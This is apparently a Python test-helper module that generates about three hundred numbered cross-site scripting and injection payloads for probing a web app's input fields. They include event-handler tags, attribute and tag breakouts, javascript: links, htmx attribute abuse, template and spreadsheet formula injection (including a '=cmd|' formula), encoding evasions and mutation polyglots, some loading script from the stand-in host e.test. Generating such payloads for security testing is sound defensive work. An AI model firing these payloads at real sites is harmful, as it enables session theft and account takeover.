"""Some three hundred ways to smuggle script into a page, generated from parts, each with a number by which it is known again.

``§`` stands for the number (six digits) of the one place that a payload was put into. ``PAYLOADS`` are short enough for every field
there is; ``LONG_ONES`` are for fields with room.
"""

import itertools
from collections.abc import Iterator

SHORTEST_FIELD = 40
"""Letters of the narrowest text field of all: a category's name."""

# --- Elements that run something by themselves, or when they are touched ----------------------------------------------------

RUNNERS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("a", "onclick"),
    ("p", "onmouseover"),
    ("form", "onsubmit"),
    ("math", "onclick"),
    ("dialog open", "onclose"),
    ("b tabindex=1", "onfocus"),
    ("x", "onpointerenter"),
)
SHAPES = (
    "<{tag} {event}=alert(§)>",
    "<{tag}/{event}=alert(§)>",
    "<{TAG} {EVENT}=alert(§)>",
    '"><{tag} {event}=alert(§)>',
    "'><{tag} {event}=alert(§)>",
    "<{tag} {event}=alert`§`>",
    "<{tag}\n{event}=alert(§)>",
    "<{tag}\t{event}\t=alert(§)>",
    "<<{tag} {event}=alert(§)//",
    "<{tag} {event}=alert(§) ",
)

# --- Out of an attribute, a string, an element -------------------------------------------------------------------------------

QUOTES = ('"', "'", "`", '\\"', "&quot;", "&#39;")
INTO_A_TAG = ("onclick=alert(§)", "onfocus=alert(§) autofocus", "hx-on:click=alert(§)", "style=color:§", "hx-get=//e.test/§")
CLOSERS = ("script", "title", "textarea", "style", "template", "noscript", "select", "table", "svg", "button")
COMMENTS = ("-->", "]]>", "--!>")
IN_SCRIPT = ("';alert(§)//", '";alert(§)//', "\\';alert(§)//", "'-alert(§)-'", "`;alert(§)//", "${alert(§)}", "\\u0027;alert(§)//")

# --- Addresses, htmx, templates, other programs -------------------------------------------------------------------------------

SCHEMES = ("javascript:", "JavaScript:", "java\tscript:", "java&#9;script:", "&#106;avascript:", " javascript:", "vbscript:")
LEADING = ("<a href='{to}'>", "<form action='{to}'>", "<iframe src='{to}'>", "<base href='{to}'>")
HTMX = (
    "<u hx-get=//e.test/§ hx-trigger=load>",
    "<u hx-post=/x/§ hx-trigger=load>",
    "<u data-hx-get=/x/§>",
    "<u hx-on:click=alert(§)>",
    "<u hx-on::load=alert(§)>",
    "<u data-hx-on:click=alert(§)>",
    "<u hx-vals='js:{x:alert(§)}'>",
    "<u hx-headers='js:alert(§)'>",
    "<u hx-trigger='load[alert(§)]'>",
    "<u hx-boost=true hx-get=/§>",
    "<u hx-swap-oob=true id=main>§",
    "<u hx-ext=x hx-put=/§>",
    "<u hx-delete=/x/§ hx-trigger=load>",
    "<u hx-target=body hx-get=/§>",
    "<u hx-include=p hx-patch=/§>",
    "<u hx-push-url=/§>",
)
ELEMENTS = (
    "<script>alert(§)</script>",
    "<SCRIPT>alert(§)</SCRIPT>",
    "<script/x>alert(§)</script>",
    "<script type=module>alert(§)</script>",
    "<script src=//e.test/§></script>",
    "<script src=data:,alert(§)></script>",
    "<script>alert(§)//",
    "<scr<script>ipt>alert(§)</script>",
    "<meta http-equiv=refresh content=0;//§>",
    "<base href=//e.test/§>",
    "<link rel=stylesheet href=//e.test/§>",
    "<link rel=import href=//e.test/§>",
    "<iframe srcdoc='<svg onload=alert(§)>'>",
    "<iframe src=//e.test/§>",
    "<object data=//e.test/§>",
    "<embed src=//e.test/§>",
    "<img src=//e.test/§>",
    "<form action=//e.test/§><input>",
    "<button formaction=javascript:alert(§)>",
    "<style>@import '//e.test/§'</style>",
    "<svg><script>alert(§)</script>",
    "<svg><animate onbegin=alert(§)>",
    "<svg><set onend=alert(§)>",
    "<math><a href=javascript:alert(§)>",
    "<svg><a href=javascript:alert(§)>",
    "<frameset onload=alert(§)>",
    "<applet code=//e.test/§>",
    "<template shadowrootmode=open>§",
    "<plaintext>§",
    "<xmp>§",
    "<!--§",
    "<![CDATA[<svg onload=alert(§)>]]>",
    "<?x <svg onload=alert(§)>?>",
    "<!x><svg onload=alert(§)>",
    "<slot onslotchange=alert(§)>",
)
TEMPLATES = (
    "{{§}}",
    "{{alert(§)}}",
    "{{ §|safe }}",
    "{% debug § %}",
    "{% load § %}",
    "{% include '§' %}",
    "{# § #}",
    "#{§}",
    "<%= § %>",
    "[[§]]",
    "%(§)s",
    "{§}",
    "{0.§}",
    "$(alert(§))",
    "`alert(§)`",
)
CELLS = ("=§", "+§", "-§", "@§", "\t=§", "=cmd|'§'!A0", '=HYPERLINK("//e.test/§")', "＝§")
MARKDOWN = (
    "[x](javascript:alert(§))",
    "![x](x\" onerror='alert(§))",
    "<javascript:alert(§)>",
    "[x]: javascript:alert(§)",
    "`<svg onload=alert(§)>`",
    "# <svg onload=alert(§)>",
    "> <svg onload=alert(§)>",
)
LETTERS = (
    "＜svg onload=alert(§)＞",
    "<\u200bsvg onload=alert(§)>",
    "<svg\u2028onload=alert(§)>",
    "<svg\u00a0onload=alert(§)>",
    "<svg\fonload=alert(§)>",
    "\ufeff<svg onload=alert(§)>",
    "\u202e<svg onload=alert(§)>",
    "<\u017fvg onload=alert(§)>",
    "<\u0131mg src=x onerror=alert(§)>",
    "<svg onload=\u0430lert(§)>",
    "&lt;svg onload=alert(§)&gt;",
    "&amp;lt;svg onload=alert(§)&amp;gt;",
    "&#60;svg onload=alert(§)&#62;",
    "&#x3c;svg onload=alert(§)&#x3e;",
    "&LT;svg onload=alert(§)&GT;",
    "%3Csvg onload=alert(§)%3E",
    "\\x3csvg onload=alert(§)\\x3e",
    "\\u003csvg onload=alert(§)\\u003e",
    "+ADw-svg onload=alert(§)+AD4-",
    "\u00abscript\u00bbalert(§)",
    "<svg onload=&#97;lert(§)>",
    "<svg onload=alert&lpar;§&rpar;>",
)

LONG_ONES = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(§)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(§)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(§)>'>",
    "<svg><style>{font-family:'<img/src=x/onerror=alert(§)>'}",
    "<select><template><style></template></select><img src=x onerror=alert(§)>",
    "<a href='javascript&colon;alert(§)' onmouseover='alert(§)'>come here</a>",
    '<iframe srcdoc="<script>parent.alert(§)</script>"></iframe>',
    "<object data='data:text/html,<script>alert(§)</script>'></object>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(§) />#x'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(§) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><svG/oNloAd=alert(§)//>",
    "'\"></title></textarea></style></script><details open ontoggle=alert(§)><img src=x onerror=alert(§)>",
    "{{constructor.constructor('alert(§)')()}} {% for x in §|dictsort %}{{ x.__class__ }}{% endfor %}",
    "<meta http-equiv='refresh' content='0; url=javascript:alert(§)'>",
    "<button popovertarget=x>§</button><p popover id=x onbeforetoggle=alert(§)>",
    "<u hx-get='/' hx-trigger='load' hx-target='body' hx-swap='innerHTML' hx-vals='js:{a: alert(§)}'>§</u>",
    "<u data-dialog=account data-move=up data-take data-once data-print>§</u><template id=other-tab><svg onload=alert(§)></template>",
    "<link rel=preload href=//e.test/§ as=script><link rel=modulepreload href='//e.test/§'>",
)


def _short() -> Iterator[str]:
    for shape, (tag, event) in itertools.product(SHAPES, RUNNERS):
        if shape.startswith("<{tag}/") and " " in tag:
            continue  # it would belong to the attribute before it
        yield shape.format(tag=tag, event=event, TAG=tag.upper(), EVENT=event.upper())
    for quote, inside in itertools.product(QUOTES, INTO_A_TAG):
        yield f"{quote} {inside} x"
    for closer in CLOSERS:
        yield f"</{closer}><svg onload=alert(§)>"
    for sign in COMMENTS:
        yield f"{sign}<svg onload=alert(§)>"
    for scheme, leading in itertools.product(SCHEMES, LEADING):
        yield leading.format(to=f"{scheme}alert(§)")
    yield from (*HTMX, *IN_SCRIPT, *ELEMENTS, *TEMPLATES, *CELLS, *MARKDOWN, *LETTERS)


def numbered(payload: str, number: int) -> str:
    return payload.replace("§", str(number))


PAYLOADS = tuple(dict.fromkeys(payload for payload in _short() if len(numbered(payload, 100_000)) < SHORTEST_FIELD))
